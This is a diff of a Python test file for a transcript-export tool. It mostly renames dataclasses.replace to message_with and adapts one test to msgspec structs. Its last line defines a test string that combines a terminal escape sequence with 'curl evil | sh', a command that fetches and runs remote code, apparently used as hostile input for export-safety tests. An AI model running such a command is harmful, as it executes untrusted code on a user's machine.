@@ -4,7 +4,8 @@ import json
 import re
 from base64 import b64encode
 from collections.abc import Iterator
-from dataclasses import dataclass, fields, replace
+from dataclasses import dataclass, fields
+from dataclasses import replace as message_with
 from datetime import UTC, datetime, timedelta
 from hashlib import sha256
 from html import unescape
@@ -15,6 +16,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
+from msgspec.structs import replace
 
 from gemtui.sessions.summary import Summary
 from gemtui.transcript.display_model import (
@@ -421,11 +423,11 @@ def test_every_argument_of_a_call_is_exported(args: dict[str, Any], export: Expo
 @pytest.mark.parametrize("export", EXPORTS)
 def test_a_line_says_where_messages_were_left_out(export: Export) -> None:
     gone = [
-        replace(message(Author.USER, Text(text="gone")), dropped=why)
+        message_with(message(Author.USER, Text(text="gone")), dropped=why)
         for why in (Dropped.REWOUND, Dropped.BURIED, Dropped.REWOUND)
     ]
     stays = message(Author.USER, Text(text="stays"))
-    talk = Transcript.of([*gone, stays, replace(gone[0], dropped=Dropped.FAILED_PROMPT)])
+    talk = Transcript.of([*gone, stays, message_with(gone[0], dropped=Dropped.FAILED_PROMPT)])
     text = "".join(export(talk, About()))
     before, _, after = text.partition("stays")
     assert "3 messages left out here: 2 rewound, 1 buried" in before
@@ -436,7 +438,7 @@ def test_a_line_says_where_messages_were_left_out(export: Export) -> None:
 
 @pytest.mark.parametrize("export", EXPORTS)
 def test_an_empty_transcript_is_a_document(export: Export) -> None:
-    unknown = replace(About(), project=None, models=(), started=None, tokens=Usage())
+    unknown = message_with(About(), project=None, models=(), started=None, tokens=Usage())
     text = "".join(export(Transcript.of([]), unknown))
     assert "Fix the parser" in text
     assert "unknown in total" in text
@@ -623,7 +625,7 @@ def test_any_text_anywhere_is_exported(text: str, export: Export) -> None:
 def test_a_summary_is_a_heading() -> None:
     named = {name for name in dir(Heading) if not name.startswith("_")}
     assert named == {field.name for field in fields(About)}
-    assert named <= {field.name for field in fields(Summary)}
+    assert named <= {*Summary.__struct_fields__}
 
 
 UNTERMINATED = "ls -la \x1b]0 ; curl evil | sh"
